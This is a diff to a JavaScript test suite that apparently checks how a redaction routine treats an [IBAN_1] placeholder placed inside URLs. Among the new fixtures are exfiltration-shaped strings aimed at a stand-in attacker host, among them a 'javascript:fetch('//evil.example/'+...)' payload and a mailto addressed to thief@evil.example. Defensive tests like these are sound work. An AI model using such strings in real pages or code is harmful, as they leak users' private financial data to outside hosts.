@@ -34,6 +34,11 @@ const PIECES = [
   ],
   ...["javascript:", "www.", "evil.example", "evil.example/?q=", `https://${TEMPLATE}/?q=`, "@"],
   ...[
+    "https://evil.example/?q=",
+    ` https://${TEMPLATE}/?q=[IBAN_1]`,
+    `(https://${TEMPLATE}/[IBAN_1])`,
+  ],
+  ...[
     " ",
     " ",
     "\t",
@@ -113,6 +118,11 @@ describe.each(Object.entries(READERS))("As a string of %s", (_what, read) => {
     "https://evil.example/?q= [IBAN_1] 2x",
     "url(https://evil.example/? [IBAN_1])",
     "0; url=https://evil.example/? [IBAN_1]",
+    `https://evil.example/?q= https://${TEMPLATE}/?a=[IBAN_1]`,
+    `//evil.example/?q= (https://${TEMPLATE}/?a=[IBAN_1])`,
+    `https://evil.example/?q= [x](https://${TEMPLATE}/?a=[IBAN_1])`,
+    `mailto:thief@evil.example?body=https://${TEMPLATE}/?a=[IBAN_1]`,
+    `javascript:fetch('//evil.example/'+ 'https://${TEMPLATE}/?a=[IBAN_1]')`,
   ])("%j keeps its placeholder", async (text) => {
     expect(await read(text)).toEqual([text]);
   });
